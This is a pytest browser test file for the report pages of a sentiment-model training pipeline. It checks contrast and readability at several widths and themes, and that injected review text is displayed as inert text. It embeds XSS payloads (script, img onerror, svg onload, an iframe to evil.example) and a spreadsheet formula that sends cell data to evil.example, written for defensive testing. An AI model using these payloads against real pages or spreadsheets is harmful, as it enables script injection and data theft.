"""The pages of a real run in a real browser, trained on reviews that would like to be more than text."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from sentiment.reviews.reading import read_reviews, with_text
from sentiment.reviews.splits import split_reviews
from tests.browser.conftest import OpenWindow, Window
from tests.conftest import ROOT
from tests.e2e.conftest import Project, copy_project

FILE = '"><img src=x onerror=alert(1)>.csv'
DEVELOPER = "<script>alert('developer')</script>"
HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "</style></title><svg onload=alert(3)>",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '<iframe src="http://evil.example/"></iframe>',
]
PAGES = {
    "data_check": ("ingest", "data_check"),
    "model": ("evaluate_tfidf_linear", "evidence"),
    "comparison": ("compare", "comparison"),
    "decision": ("gate", "decision"),
    "worst_rows": ("compare", "worst_rows"),
    "words": ("tfidf_linear", "model"),
}
NARROWEST, WIDEST = 380, 1400
READABLE = 4.5  # WCAG 2.2, 1.4.3: of text against what is behind it

CONTRASTS = """() => {
  const rgb = colour => colour.match(/[\\d.]+/g).map(Number);
  const light = ([r, g, b]) => [r, g, b].map(v => v / 255)
    .map(v => v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)
    .reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
  const behind = element => {
    for (let at = element; at; at = at.parentElement) {
      const colour = rgb(getComputedStyle(at).backgroundColor);
      if (colour.length < 4 || colour[3] > 0) return colour;
    }
    return [255, 255, 255];
  };
  const own = element => [...element.childNodes].some(n => n.nodeType === 3 && n.textContent.trim());
  return [...document.querySelectorAll("body *:not(svg *)")].filter(own).map(element => {
    const [a, b] = [light(rgb(getComputedStyle(element).color)), light(behind(element))].sort((x, y) => y - x);
    return [(a + 0.05) / (b + 0.05), element.textContent.trim().slice(0, 40)];
  });
}"""


def hostile_csv(folder: Path) -> Path:
    """The sample, in which some test rows praise the product, say they do not recommend it, and attack the reader."""
    table = pd.read_csv(ROOT / "data" / "sample_reviews.csv", dtype=str, keep_default_na=False)
    split = split_reviews(with_text(read_reviews(ROOT / "data" / "sample_reviews.csv")), validation_share=0.1, seed=0)
    chosen = split.test[split.test["recommended"] == 1]["row"].head(len(HOSTILE)) - 1
    for row, text in zip(chosen, HOSTILE, strict=True):
        table.loc[row, "Title"] = text
        table.loc[row, "Review Text"] = f"{text} love love perfect, so soft and comfortable, I love it"
        table.loc[row, "Recommended IND"] = "0"
        table.loc[row, "Department Name"] = text
    path = folder / FILE
    table.to_csv(path, index=False)
    return path


@pytest.fixture(scope="module")
def trained(tmp_path_factory: pytest.TempPathFactory) -> Project:
    project = copy_project(tmp_path_factory.mktemp("pages"))
    chosen = ("--only", "tfidf_linear", "--only", "bag_of_words")
    project.run("--data", str(hostile_csv(project.root)), *chosen, "--developer", DEVELOPER)
    return project


@pytest.fixture(scope="module")
def facts(trained: Project) -> dict[str, Any]:
    told: dict[str, Any] = trained.json("report", "--out", "report.html")
    return told


@pytest.fixture(scope="module")
def report(facts: dict[str, Any]) -> Path:
    return Path(facts["path"])


@pytest.fixture(scope="module")
def pages(trained: Project) -> dict[str, Path]:
    """Every page that ZenML would show, by name."""
    asked = trained.python(
        "-c",
        """
import json, sys
from zenml.client import Client
steps = Client().get_pipeline_run(Client().list_pipeline_runs(size=1, sort_by="desc:created")[0].id).steps
found = {}
for name, (step, output) in json.loads(sys.argv[1]).items():
    (shown,) = steps[step].outputs[output][0].visualizations
    found[name] = [shown.type.value, shown.uri]
print("FOUND" + json.dumps(found))
""",
        json.dumps(PAGES),
    )
    found: dict[str, Any] = json.loads(asked.stdout.rpartition("FOUND")[2])
    assert {kind for kind, _ in found.values()} == {"html"}
    return {name: Path(path) for name, (_, path) in found.items()}


@pytest.fixture
def every_page(pages: dict[str, Path], report: Path) -> dict[str, Path]:
    return {**pages, "report": report}


def is_readable(window: Window) -> None:
    """Nothing is wider than the window, too pale to read, or a box with nothing in it."""
    assert window.overflow() == 0
    pale = [(round(ratio, 2), text) for ratio, text in window.page.evaluate(CONTRASTS) if ratio < READABLE]
    assert pale == []
    for picture in window.page.locator("svg.picture").all():
        box = picture.bounding_box()
        assert box is not None
        assert min(box["width"], box["height"]) > 100


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
@pytest.mark.parametrize("width", [NARROWEST, WIDEST])
@pytest.mark.parametrize("name", [*PAGES, "report"])
def test_every_page_is_readable_in_any_window(
    open_window: OpenWindow, every_page: dict[str, Path], name: str, width: int, dark: bool
) -> None:
    window = open_window(width, dark=dark)
    window.show(every_page[name])
    is_readable(window)
    window.picture(f"page-{name}-{'dark' if dark else 'light'}")


@pytest.mark.parametrize("name", ["data_check", "worst_rows", "report"])
def test_hostile_reviews_are_shown_as_they_are_and_do_nothing(
    open_window: OpenWindow, every_page: dict[str, Path], name: str
) -> None:
    page = open_window().show(every_page[name])
    assert page.locator("script, img, iframe, object, embed, a, form, link, svg[onload]").count() == 0
    for text in HOSTILE:
        shown = text if name != "data_check" else text[:39]  # names of departments are cut
        assert page.get_by_text(shown).first.is_visible()


def test_the_dashboard_shows_the_page_beside_its_artifact_and_hostile_reviews_do_nothing_there(
    open_window: OpenWindow, trained: Project
) -> None:
    shown = trained.json("dashboard", "--no-open")
    try:
        window = open_window()
        page = window.show(shown["page"])
        page.get_by_role("button", name="Fit view").click()  # it begins at the first step alone
        page.get_by_text("worst_rows", exact=True).first.click()
        page.get_by_role("tab", name="Visualization").last.click()
        page.get_by_role("button", name="Load Preview").click()
        frame = page.frame_locator("iframe")
        frame.get_by_text("tfidf_linear is wrong on").wait_for()
        for text in HOSTILE:
            assert frame.get_by_text(text).first.is_visible()
        assert frame.locator("script, img, iframe, a").count() == 0
        window.picture("dashboard-worst_rows", whole=False)
    finally:
        trained.run("dashboard", "stop")


def test_the_file_and_the_developer_are_text_too(open_window: OpenWindow, report: Path) -> None:
    page = open_window().show(report)
    assert page.get_by_text(DEVELOPER).first.is_visible()
    assert page.get_by_text(FILE).first.is_visible()


def test_the_report_answers_the_five_questions_at_its_top(open_window: OpenWindow, report: Path) -> None:
    page = open_window(height=500).show(report)
    tiles = {
        tile.locator(".question").inner_text(): tile.locator("strong") for tile in page.locator(".tiles > div").all()
    }
    assert "2,915 reviews with text" in tiles["Which data?"].inner_text()
    assert tiles["Which model is best, and by how much?"].inner_text().startswith("tfidf_linear, by 0.")
    assert "tfidf_linear is wrong on" in tiles["Where is it wrong?"].inner_text()
    assert tiles["May it go to production?"].inner_text().startswith("Yes: version")
    assert tiles["What is in production now?"].inner_text().endswith(": tfidf_linear")
    for answer in tiles.values():
        box = answer.bounding_box()
        assert box is not None
        assert box["y"] + box["height"] < 500


def test_the_comparison_shows_every_candidate_with_its_interval(
    open_window: OpenWindow, pages: dict[str, Path]
) -> None:
    page = open_window().show(pages["comparison"])
    assert page.locator("h2").inner_text().startswith("tfidf_linear, by 0.")
    rows = page.locator("table tr")
    assert [rows.nth(place).locator("td").first.inner_text().split("\n")[0] for place in (1, 2)] == [
        "★ tfidf_linear",
        "bag_of_words",
    ]
    assert page.locator(".whiskers circle").count() == 2


def test_the_gates_page_shows_each_check_with_value_and_limit(open_window: OpenWindow, pages: dict[str, Path]) -> None:
    page = open_window().show(pages["decision"])
    assert page.locator("h2").inner_text() == "Yes: version 2 is the champion now"
    assert "✓ passed" in page.locator("table").inner_text()
    assert page.get_by_text("at least 0.3 is needed for production").is_visible()


def test_a_report_is_not_overwritten_unless_told(trained: Project, report: Path) -> None:
    before = report.read_bytes()
    refused = trained.run("report", "--out", str(report), exits=2)
    assert "exists already; --overwrite replaces it" in refused.stderr
    assert report.read_bytes() == before


def test_a_report_tells_machines_what_it_is_of(trained: Project, facts: dict[str, Any]) -> None:
    assert facts["path"] == str(trained.root / "report.html")
    assert facts["data"] == FILE
    assert facts["developer"] == DEVELOPER
    assert facts["best"] == "tfidf_linear"
    assert facts["promoted"] is True
    assert facts["champion_now"] == facts["best_version"]


def test_a_run_is_found_by_each_of_its_names_and_by_no_part_of_one(trained: Project, facts: dict[str, Any]) -> None:
    names = [facts["zenml_run"], facts["zenml_run_id"], facts["mlflow_run"], facts["zenml_run"][:-1]]
    asked = trained.python(
        "-c",
        """
import sys
from pipelines.finished import find_run
from sentiment.errors import InputError
for named in sys.argv[1:]:
    try:
        print("FOUND", find_run(named).id)
    except InputError as error:
        print("FOUND", error.exit_code)
""",
        *names,
    )
    found = [line.removeprefix("FOUND ") for line in asked.stdout.splitlines() if line.startswith("FOUND ")]
    assert found == [*[facts["zenml_run_id"]] * 3, "2"]


def test_an_unknown_run_exits_2_and_lists_those_there_are(trained: Project, facts: dict[str, Any]) -> None:
    refused = trained.run("report", "nonsense", "--out", "other.html", exits=2)
    assert "no training run is called 'nonsense'" in refused.stderr
    assert facts["zenml_run"] in refused.stderr
    assert not (trained.root / "other.html").exists()
